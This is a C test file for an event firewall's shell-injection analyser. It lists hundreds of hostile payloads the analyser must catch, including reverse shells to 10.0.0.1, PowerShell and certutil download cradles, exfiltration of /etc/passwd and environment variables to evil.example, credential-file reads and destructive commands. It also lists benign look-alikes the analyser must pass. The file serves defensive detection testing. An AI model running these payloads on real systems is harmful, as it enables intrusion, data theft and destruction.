/* eventwall - the event firewall
 * Copyright (c) 2026 the eventwall authors
 * SPDX-License-Identifier: Apache-2.0 */

/* Commands of shells behind the end of data, in all spellings, and what looks like them and is none. */

#include "analysed.h"
#include "nasty.h"
#include "signatures/analysers/shell_lexer.h"

static const char *const found[] = {
	/* true */
	/* shellshock and processes that multiply */
	":(){ :|:& };:", "() { :;}; /bin/bash -c \"curl http://evil.example\"",
	"() { :;}; echo vulnerable", "() { _; } >_[$($())] { id; }", ";:(){ :|:& };:",
	/* options that run a command, transports, includes */
	"--checkpoint-action=exec=sh x.sh", "-oProxyCommand=id x", "--upload-pack=touch /tmp/x",
	"--use-askpass=/tmp/x", "-exec id ;", "--output=/var/www/x.php", "-o /var/www/html/x.php",
	"--to-command=id", "--use-compress-program=id", "--rsh=id", "--post-file=/etc/passwd",
	"-TmTT=\"id\"", "ext::sh -c id", "<!--#exec cmd=\"id\"-->", "<!--#exec cmd=\"ls\" -->",
	"-1; id",
	/* PowerShell and cmd.exe */
	"127.0.0.1 & dir", "& dir", "& dir c:\\", "| dir", "|dir C:\\",
	"&& type c:\\windows\\win.ini", "| type %SYSTEMROOT%\\win.ini", "& ipconfig /all",
	"| net user", "& net user hacker Passw0rd /add", "net user hacker Passw0rd /add",
	"net localgroup administrators hacker /add", "| tasklist", "& systeminfo", "& c^a^t x",
	"& w^h^o^a^m^i", "& %COMSPEC% /c dir", "%COMSPEC% /c dir", "& cmd /c dir",
	"cmd.exe /c whoami", "& set /a 1+1", "& for /f \"delims=\" %i in ('whoami') do echo %i",
	"& timeout /t 10", "; powershell -enc SQBFAFgA", "powershell -enc SQBFAFgAIAAoAE4AZQB3",
	"powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('htt"
	"p://10.0.0.1/a.ps1')\"",
	"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
	";IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
	"; &('c'+'at') x", ";Start-Process calc", ";Get-ChildItem C:\\", "; Get-Process",
	";Start-Sleep -s 5", "; [char]99+[char]97", ";Invoke-Expression \"whoami\"",
	"& certutil -urlcache -split -f http://10.0.0.1/x.exe x.exe",
	"certutil.exe -urlcache -f http://10.0.0.1/x x",
	"bitsadmin /transfer n http://10.0.0.1/x c:\\x", "mshta http://10.0.0.1/x.hta",
	"regsvr32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll",
	"wmic process call create \"calc\"",
	"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"", ";del /f /q c:\\",
	"&del x.txt", ";Remove-Item -Recurse C:\\", "& type C:\\boot.ini", "; dir C:\\Users",
	"| dir c:\\ /s", "& dir & ", "&&dir", "&dir", "; net users",
	"& net localgroup administrators", "| ipconfig /all", "& wmic os get", "& tasklist /svc",
	"& del /q x", "& cmd.exe", "& powershell", "& powershell Get-Process",
	"& powershell -c whoami",
	"& powershell -Command \"Invoke-WebRequest http://evil.example\"",
	"& p^o^w^e^r^s^h^e^l^l -c id", "& \"c\"m\"d\" /c dir", "& cmd /c \"whoami\"",
	"; Invoke-WebRequest -Uri http://evil.example", "; Get-Content C:\\x",
	"; Get-WmiObject Win32_Process", "|| dir",
	/* shells connected with a host */
	";nc -e /bin/sh 10.0.0.1 4444", "nc -e /bin/sh 10.0.0.1 4444",
	";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
	"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
	";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
	"0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
	"exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done",
	"python3 -c 'import socket,subprocess,os;s=socket.socket()'",
	"php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
	"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i'",
	"socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444",
	"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) {}}' /dev/null",
	"lua -e \"require('socket');require('os');t=socket.tcp();os.execute('/bin/sh -i <"
	"&3')\"",
	"telnet 10.0.0.1 80 | /bin/bash | telnet 10.0.0.1 25", ";telnet 10.0.0.1 4444",
	/* decoded, reversed, taken apart */
	";$'\\x63\\x61\\x74' /etc/passwd", ";$(printf \"\\x69\\x64\")",
	";a=c;b=at;$a$b /etc/passwd", ";a=i;b=d;$a$b", ";echo aWQ=|base64 -d|sh",
	"echo aWQ= | base64 -d | bash", ";bash<<<$(base64 -d<<<aWQ=)", ";tac<<<di|sh",
	";$(rev<<<'imaohw')", ";$(tr \"[A-Z]\" \"[a-z]\"<<<\"WhOaMi\")",
	";$(a=\"WhOaMi\";printf %s \"${a,,}\")", ";printf hello", ";echo -e \"\\x69\\x64\" | bash",
	";printf '\\151\\144' | sh", "; gc C:\\x", "| Out-File C:\\x",
	/* blanks spelt otherwise */
	";cat$IFS/etc/passwd", ";cat${IFS}/etc/passwd", "cat${IFS}/etc/passwd", ";ls$IFS$9-la",
	";{cat,/etc/passwd}", "{cat,/etc/passwd}", ";{ls,-la}", "${IFS}id", "&&{id,}",
	";cat$IFS$9/etc$IFS/passwd", ";IFS=,;`cat<<<uname,-a`",
	";wget$IFS-O-$IFS\"http://evil.example\"", ";echo${IFS}id|sh", ";ls${IFS}-la",
	";ls$IFS-la", ";sleep${IFS}5", ";sleep$IFS5",
	/* characters out of variables */
	";cat ${HOME:0:1}etc${HOME:0:1}passwd", ";${PATH:0:1}bin${PATH:0:1}id",
	/* paths with wildcards */
	";/?\?\?/c?t /?\?\?/p?\?s?\?", ";/bin/c?t /etc/passwd", ";/usr/bin/whoa*i",
	"/?\?\?/?\?t /?\?\?/?\?ss?\?", ";cat /e?\?/p?\?s?\?", ";cat /etc/pass*",
	";echo '<?php system($_GET[1]);?>' > shell.php", ";rm -rf *", ";/bin/l?", ";/b*n/ls",
	";/usr/b?\?/id", "& findstr /s password *.txt", ";cat /etc/*release", ";cat *", ";ls *",
	/* words broken up */
	";c'a't /etc/passwd", ";c\"a\"t /etc/passwd", ";c\\at /etc/passwd", ";ca$@t /etc/passwd",
	";w'h'o'am'i", ";w\"h\"o\"am\"i", ";w\\ho\\am\\i", ";/\\b\\i\\n/////s\\h", ";who$@ami",
	";who$()ami", ";who``ami", ";w$@ho$1ami", ";i''d", ";i\"\"d", ";i\\d", ";l\\s", ";'id'",
	";\"id\"", ";cat /et\\c/pass\\wd", ";cat /e\"t\"c/pa's'swd", ";l's' -la",
	/* something leads the command */
	"; id", ";sudo id", ";time id", ";nohup id &", ";busybox id", ";command id", ";exec id",
	";env id", ";env X=1 id", ";X=1 id", ";xargs id", ";timeout 5 id", ";eval id", ";ifconfig",
	";(id)", ";{ id; }", ";if true; then id; fi", ";while true; do id; done", ";!id",
	";[ 1 ] && id", ";test 1 && id", ";true && id", ";false || id",
	";echo \"x ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers",
	";while read l;do echo $l;done</etc/passwd", ";busybox nc 10.0.0.1 1 -e sh",
	";sudo -u root id", ";env -i id", ";env > /tmp/x", "localhost; id", "abc') ; id",
	/* substitutions */
	"\"$(id)\"", "$(id)", "`id`", "x`id`", "\"`id`\"", "'`id`'", "$(whoami)", "x$(whoami)x",
	"$(cat /etc/passwd)", "a$(sleep 5)", "`sleep 5`", "`ping -c 10 127.0.0.1`",
	"`cat /etc/passwd`", "`nslookup x.evil.example`", "$(nslookup $(whoami).evil.example)",
	"<(id)", ">(id)", "; cat <(id)", "report.pdf && curl http://evil.example/$(whoami)",
	"my name is $(whoami)", "Hello $(id)", "1`sleep 5`", "1$(sleep 5)",
	";curl http://evil.example --data \"$(env)\"", "$(curl http://evil.example)",
	";$(echo id)", ";`echo id`", "`whoami`.evil.example", "http://`whoami`.evil.example/",
	"http://$(whoami).evil.example/", "$(</etc/passwd)", ";echo $(</etc/passwd)",
	"`;cat /etc/passwd`", "x||nslookup `whoami`.evil.example||",
	"& nslookup `whoami`.evil.example &", "$(uname -a)", "`uname -a`", "user$(id)", "'$(id)'",
	";echo $(cat /etc/passwd)", ";echo `id`", ";echo $((1+1))", ";curl evil.example/`id`",
	"$(sleep 5)", "'`sleep 5`'", "\"$(sleep 5)\"", "foo.txt` id`", "foo.txt$(id)",
	/* a quote closes first */
	"x' || curl http://evil.example || '", "x\" && curl http://evil.example && \"",
	/* calls that take time or call home */
	"; sleep 5", ";sleep 10;", "| sleep 5 |", "& sleep 5 &", "&& sleep 5",
	"; ping -c 5 127.0.0.1", "& ping -n 5 127.0.0.1 &", "| ping -i 30 127.0.0.1 |",
	"& ping -i 30 127.0.0.1 &", "; nslookup x.evil.example", "; curl http://evil.example/x",
	"; curl evil.example | sh", "; wget http://10.0.0.1/a -O /tmp/a; sh /tmp/a",
	"& ping -n 21 127.0.0.1", "1;sleep 5", "1|sleep 5", "1&sleep 5", "1 && sleep 5",
	";wget evil.example/x", ";ftp evil.example", ";tftp -i 10.0.0.1 GET x",
	";dig evil.example", ";host evil.example", ";traceroute 10.0.0.1",
	";curl -d @/etc/passwd http://evil.example", "test.jpg\"; sleep 10 #",
	"test.jpg' | sleep 10 #", "test.jpg & ping -c 10 127.0.0.1 &", "a||ping -c 10 127.0.0.1||",
	"x||nslookup x.evil.example||", ";curl -o /tmp/x http://10.0.0.1/x",
	";curl --upload-file /etc/passwd http://evil.example",
	";curl http://169.254.169.254/latest/meta-data/", ";wget -q -O - http://evil.example/x|sh",
	";wget --post-file=/etc/passwd http://evil.example", ";sleep 5s", ";sleep 0.5",
	"localhost && id", "localhost | id",
	/* data first */
	"a;id", "a;id;", "a;id|", "a);id", "a);id;", "a);id|", "a)|id", "a|id", "x; whoami",
	"127.0.0.1; ls", "127.0.0.1;id", "127.0.0.1|id", "127.0.0.1 && id", "127.0.0.1 || whoami",
	"8.8.8.8; cat /etc/passwd", "file.txt;cat /etc/passwd", "test;id", "test|whoami",
	"test; uname -a", "test&whoami", "test && cat /etc/hosts", "id|",
	"https://example.com/; ls /var/task #", "https://example.com/;cat /var/task/index.js #",
	"https://foobar; ls /var/task #", "hello; cat /etc/passwd", "John Smith; cat /etc/passwd",
	"John Smith | whoami", "user@example.com;whoami", "a;ls", "a;ls -la", "test;ls",
	"test.jpg;ls", "x||id", "x&&id", "id;whoami", "ls;id", "1 | whoami", "1|whoami",
	"1;whoami", "1&&whoami", "1||whoami", "1&whoami", "foo.txt || id", "foo.txt && ls",
	"foo.txt | ls -la", "foo.txt ; ls", "8.8.8.8|id", "localhost;id", "example.com;id",
	"example.com; ls", "www.example.com; cat /etc/passwd",
	/* a separator first */
	";id", ";id;", "|id", "| id", "||id", "|| id ||", "&id", "&& id", "& id", ";id #", ";id|",
	";python -c 'import os;os.system(\"id\")'", ";/bin/ls -al", ";/usr/bin/id", "|/usr/bin/id",
	"|/usr/bin/id|", ";/usr/bin/id|", "\n/bin/ls -al\n", ";netstat -a;", ";cat</etc/passwd",
	";</etc/passwd cat", ";cat</etc/passwd>/tmp/x", ";echo pwned > /var/www/html/x.txt",
	";touch /tmp/pwned", ";rm -rf /", ";chmod 777 /tmp/x", ";kill -9 1", ";shutdown -h now",
	";reboot", "& whoami", "|cat /etc/passwd", ";echo vulnerable", ";echo hello", "| echo abc",
	"&echo xyz", ";pwd", ";ps -ef", ";ps aux", ";env", ";printenv", ";set", ";w", ";uptime",
	";hostname", ";cat flag.txt", ";cat index.php", ";head -n 1 app.py", ";grep -r password .",
	";find / -name flag", ";find / -perm -4000", ";ls /", ";ls -R /", ";ls ..",
	";tar cf - / | nc 10.0.0.1 80", ";ssh user@evil.example", ";crontab -l", ";id>/tmp/x",
	";id 2>&1", ";sh", "|sh", "|bash", ";bash", ";python", ";perl -e 'print 1'", ";php -v",
	";node -e \"1\"", ";ip a", ";ip addr", ";arp -a", ";route -n", ";lsof -i", ";last",
	";cat ~/.ssh/id_rsa", ";cat /root/.bash_history", ";dd if=/dev/zero of=/dev/sda",
	";aws s3 ls", ";docker ps", ";git clone http://evil.example/x", ";npm install evil",
	";make", ";mysql -u root -p", ";env|grep AWS", ";cat /proc/self/environ", ";. /tmp/x",
	";source /tmp/x", ";set -x", ";alias x=id;x", ";xxd /etc/passwd", ";rev /etc/passwd",
	";base64 /etc/passwd", ";vi -c ':!id'", ";openssl s_client -connect 10.0.0.1:443",
	";gcc x.c", ";su -", ";passwd", ";useradd x", ";cp /bin/sh /tmp/x", ";ln -s / x",
	";ls -la;", "| cat /etc/passwd |", "&& cat /etc/passwd &&", ";cat /etc/passwd;#",
	"& whoami > /var/www/static/whoami.txt &", ";cat<>/etc/passwd",
	";p=/etc;q=passwd;cat $p/$q", ";CAT=cat;$CAT /etc/passwd",
	";echo \"d2hvYW1p\" | base64 --decode | sh", ";xxd -r -p <<< 6964 | bash", ";bash<<<id",
	";sh<<<id", ";python -c \"print(1)\"", ";python3 -c 'import os; os.system(\"id\")'",
	";perl -e 'system(\"id\")'", ";ruby -e 'exec \"id\"'", ";php -r 'system(\"id\");'",
	";node -e 'require(\"child_process\").exec(\"id\")'", ";awk 'BEGIN{system(\"id\")}'",
	";find . -exec id \\;", ";find /tmp -name x -exec /bin/sh \\;",
	";tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id", ";less /etc/passwd",
	";more /etc/passwd", ";nl /etc/passwd", ";sort /etc/passwd", ";cut -d: -f1 /etc/passwd",
	";sed p /etc/passwd", ";dd if=/etc/passwd", ";od -c /etc/passwd", ";strings /etc/passwd",
	";diff /etc/passwd /dev/null", ";paste /etc/passwd", ";echo $PATH", ";expr 1 + 1",
	";nc 10.0.0.1 4444", ";nc -lvp 4444", ";ncat 10.0.0.1 4444 -e /bin/bash",
	";scp /etc/passwd user@evil.example:", ";rsync -av /etc evil.example::x", "& net view",
	"; ver", "& date /t", "& time /t", "& echo hello", "& echo %USERNAME%",
	"& more C:\\boot.ini", "& reg query HKLM", "& sc query", "& schtasks /query",
	"& rd /s /q x", "& calc.exe", "& notepad", "; iwr http://evil.example", "; whoami /all",
	"; Write-Output hello", "; ls C:\\", ";su -c id", ";nice -n 5 id", ";stdbuf -o0 id",
	";script -c id", ";watch id", ";at now", ";ssh -o ProxyCommand=id x",
	";git -c core.sshCommand=id fetch", ";docker run -v /:/m x", ";kubectl get secrets",
	";systemctl stop x", ";iptables -F", ";crontab -r", ";history", ";export", ";declare",
	";getent passwd", ";groups", ";lsof", ";mount", ";df -h", ";free -m", ";dmesg", ";ps",
	";top", ";hostname -I", ";uname", ";cat /proc/version", ";cat .env",
	";cat ~/.aws/credentials", ";cat config.php", ";cat index.js", ";head app.js", ";ls ~",
	";id > /tmp/x", ";touch x", ";mkdir x", ";rm x", ";rm -f x", ";rm index.js", ";mv x /tmp",
	";cp x /tmp", ";chmod +x x", ";chown root x", ";kill 1", ";killall node", ";pkill node",
	";halt", ";init 0", ";yes", "|| cat /etc/passwd",
	/* a command as a whole */
	"\";id;\"", "';id;'", "'; id #", "\"; id; echo \"", "' | id", "\"|id\"", "\"&&id&&\"",
	"perl -e 'use Socket;$i=\"10.0.0.1\";'", "rm -rf / --no-preserve-root",
	"/bin/cat /etc/passwd|", "ls -la|", "cat /etc/passwd", "/bin/cat /etc/passwd",
	"\"; cat /etc/passwd #", "'; cat /etc/passwd; '",
	"email=x||whoami>/var/www/images/output.txt||", "name=foo;id", "abc\"; id; \"",
	"abc'; id; '", "abc\"|id", "abc\"); id //",
	NULL,
};

static const char *const left[] = {
	/* false */
	/* builds and scripts as they are */
	"npm ci && npm test", "npm ci && npm run build", "set -e\nmake test",
	"run `curl` or `wget`", "`npm test`",
	"docker run -u $(id -u):$(id -g) -v $(pwd):/app node:18 npm test",
	"VERSION=$(git describe --tags)",
	"RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
	"curl -fsSL https://get.docker.com | sh",
	"curl -sSL https://install.python-poetry.org | python3 -",
	"$ curl -fsSL https://example.com/install.sh | bash",
	"Install with: curl -fsSL https://example.com/install.sh | bash",
	"Do not pipe curl | bash", "fish | bash", "bash | zsh", "(curl|wget|python-requests)",
	"curl|wget|httpie", "Deploy failed: make: *** [all] Error 1; see log",
	"git add . && git commit -m \"fix\" && git push",
	"cd /app && python manage.py migrate && gunicorn app:app",
	"mvn clean package; java -jar target/app.jar", "docker-compose up -d; docker ps",
	"kubectl get pods | grep web", "ls -la | grep foo", "find . -name \"*.pyc\" | xargs rm -f",
	"export PATH=$PATH:/usr/local/bin; which node", "if [ -f package.json ]; then npm ci; fi",
	"for f in *.txt; do echo $f; done",
	"#!/bin/sh\nset -eu\ncurl -fsS https://example.com/x | tar xz\nrm -rf /tmp/x\n",
	"FROM node:18\nRUN apt-get update && apt-get install -y curl \\\n && rm -rf /var/"
	"lib/apt/lists/*\nCMD [\"node\", \"app.js\"]",
	"name: CI\non: [push]\njobs:\n  test:\n    steps:\n      - run: npm ci\n      - r"
	"un: curl https://x.y | bash\n",
	"echo \"x\"; date", "rm -rf node_modules", "sh -c \"npm start\"", "/bin/sh -c 'npm start'",
	"/bin/bash", "bash -c \"npm ci && npm test\"", "[\"sh\", \"-c\", \"exec node server.js\"]",
	"until nc -z db 5432; do sleep 1; done",
	"timeout 30 bash -c 'until echo > /dev/tcp/localhost/5432; do sleep 1; done'",
	"echo \"$KUBECONFIG_B64\" | base64 -d > kubeconfig", "echo $SECRET | base64 --decode",
	"ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" host",
	"tar --use-compress-program=zstd -cf x.tar.zst .",
	"powershell -ExecutionPolicy Bypass -File build.ps1", "pwsh -Command \"Get-ChildItem\"",
	"powershell is nice", "cmd /c \"mvn test\"", "C:\\Windows\\System32\\cmd.exe",
	"Use `rm -rf` with care; `ls` first",
	"https://github.com/docker/compose/releases/download/1.29.2/docker-compose-$(unam"
	"e -s)-$(uname -m)",
	"curl -L \"https://x/docker-compose-$(uname -s)-$(uname -m)\" -o /usr/local/bin/d"
	"ocker-compose",
	"nohup ./server > /dev/null 2>&1 &", "./build.sh && echo done", "./run.sh; cat log.txt",
	"PATH=/usr/bin:/bin; export PATH", "LD_LIBRARY_PATH=. ./a.out", "IFS=$'\n' read -r a",
	"OLDIFS=$IFS; IFS=,", "ssh user@host \"cat /var/log/syslog | tail -n 20\"",
	"grep -r \"foo\" . | wc -l", "wget https://example.com/file.tar.gz && tar xzf file.tar.gz",
	"Skills: bash; python; perl; awk; sed", "bash;sh;zsh", "docker;kubectl;helm", "curl; wget",
	/* substitutions of other languages */
	"Use $(id -u) to get your uid", "$(pwd):/app", "$(id -u):$(id -g)",
	"$(document).ready(function(){ $(\"#id\").hide(); });", "$(this).find('li')",
	"$(CC) $(CFLAGS) -o $@ $<", "$(date +%Y-%m-%d)", "build-$(date +%s)", "$(Build.BuildId)",
	"$(HOSTNAME)", "${{ secrets.TOKEN }}", "${IFACE}", "$a$b", "$PREFIX$NAME",
	/* markdown */
	"use `id` to select the row", "Run `whoami` to see your user", "`ls -la`",
	"see `cat /etc/hosts` for details", "`a` | `id` | `b`", "`id`, `name` and `date` columns",
	"| `id` | string | the identifier |",
	/* tables and lists */
	"a; b", "cats | dogs", "name; id", "name;id", "id;name;date", "| id | name | type |",
	"| id | date | host |", "|id|name|", "^(?:ls|whoami)$", "GET|POST|PUT",
	"cat file.txt | sort | uniq -c", "if (a || id) { find(b); }",
	"const x = a && b || c; sleep(5);", "&lt;id&gt; &amp; more", "| date |",
	"2020-01-01 | INFO | host | started", "a | b | c", "col1;col2;id", "id,name;date",
	"date;time;host", "user;id", "x;y;w", "do; re; mi", "'a';'id';'date'",
	"\"id\";\"name\";\"host\"", "&nbsp;&nbsp;cat", "a || b", "Usage: tool [options] | head",
	"Java; Python; Node; Perl; PHP", "Java, Python | Node | Perl", "php;python;ruby;node",
	"perl | python | ruby", "vi;vim;nano", "English; more", "Monday; who",
	/* addresses, headers, queries */
	"R&D; sales", "cut&paste", "copy&paste", "search&sort", "a=1&id=5&sort=asc",
	"https://example.com/?a=1&id=5&date=2020-01-01", "https://example.com/?x&id",
	"foo=bar; path=/; expires=Wed, 21 Oct 2025 07:28:00 GMT",
	"session=abc; id=5; host=example", "text/html; charset=utf-8",
	"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/7.88.1",
	"AT&T; host of companies", "--use-compress-program=zstd", "--output=/tmp/report.xml",
	"--config=/etc/app/config.yml", "{id, name} = props", "() => { return 1 };", "/a?b=c/?x=1",
	"/api/*/users/?id=1",
	/* options and paths */
	"/usr/bin/python3 app.py", "-o /tmp/out.json", "-o", "--verbose", "-1",
	"- item one\n- item two", "C:\\Users\\me\\id", "corp\\id",
	/* code */
	"x && y", "console.log(\"a\"); exit(1);", "{cat, dog}", "f() { return; }", "() {}",
	"function() { a; }; b", "a && !b",
	/* prose */
	"Tom & who", "O'Brien", "eat; sleep 8 hours", "rest & sleep 10 more", "ping me; dig in",
	"salt & pepper; find /a/ way", "the cat / dog owners; more of them", "; more / less",
	"; curl is a tool", "; uname it", "hostname & ipconfiguration", "; kill it",
	"fish & chips; cat food", "Fix bug; less noise, more signal",
	"select the union members from the list; drop us a line -- thanks",
	"Steps to reproduce:\n1. run ls -la\n2. cat /etc/hosts\n", "feat: add id; fix host lookup",
	"Merge branch 'main' into dev; resolve conflicts", "<p>one</p>; <b>two</b>", "& more",
	"& Co", "100% & more", "can't; won't", "it's; id's", "ps: see you; date tbd",
	"w/ love; who knows", "The server went down at 5pm; uptime was 99%",
	"Error: ENOENT; no such file: /etc/app.conf",
	"Mar  1 10:00:00 host sshd[1]: Accepted publickey for root; uname ok", "what ifs and buts",
	"what?\?", "price is $5; cut 10%", "c'mon; let's go", "l'id; d'ate",
	"rock 'n' roll & head", "he said \"cat\"; dog", "x\"; y", "Press & hold; test it",
	"Contact: host@example.com; mail me", "www.example.com; host: example",
	"Time: 5pm; date: tomorrow", "vim & emacs",
	NULL,
};

/* Each command that is no word of prose is found behind a separator. */
static void each_command(const struct ew_analyser *a)
{
	char text[64];
	size_t n = 0, wrong = 0, unsorted = 0;

	for (const char *name; (name = ew_shell_name(n)); n++) {
		struct ew_finding f;
		snprintf(text, sizeof(text), ";%s /etc/passwd", name);
		struct ew_operand o = { .text = ew_bytes_str(text) };
		if (!a->find(&o, &f)) {
			printf("# %s\n", text);
			wrong++;
		}
		unsorted += n && strcmp(ew_shell_name(n - 1), name) >= 0;
		unsorted += ew_shell_traits(ew_bytes_str(name)) == 0;
	}
	ok(n > 300, "%zu commands are known", n);
	is_int(unsorted, 0, "their table is sorted, each is found in it");
	is_int(wrong, 0, "each is found with a file of the system");
}

static void nasty(const struct ew_analyser *a)
{
	static const char *const piece[] = {
		";", "|", "&", "\n", "`", "$(", "<(", "'", "\"", "\\", ";id '", ";id \"", "$IFS", "${", "{cat,", ";a=", "$a$b",
		"() {", "f(){ f", "iex ", "/dev/tcp/", "[char]", "&(", "%a:~", ";/bin/?", ";/?\?\?/", ";cat 'x;cat \"y",
		"id&", "id|", "x$(id -u)", "&amp;", "--checkpoint-action", ";sudo ", ";cat x x x x x x x x x x", "`id -u` ",
	};

	for (size_t i = 0; i < sizeof(piece) / sizeof(*piece); i++)
		nasty_repeat(a, "x ", piece[i]);
}

int main(void)
{
	struct analysed t = analysed_begin(&ew_analyser_shell);

	ok(ew_analyser_named("shell") == &ew_analyser_shell, "it has its name");
	if (t.gate) {
		analysed_all(&t, found, true);
		analysed_all(&t, left, false);
	}
	each_command(&ew_analyser_shell);
	nasty(&ew_analyser_shell);
	analysed_end(&t);
	return done();
}
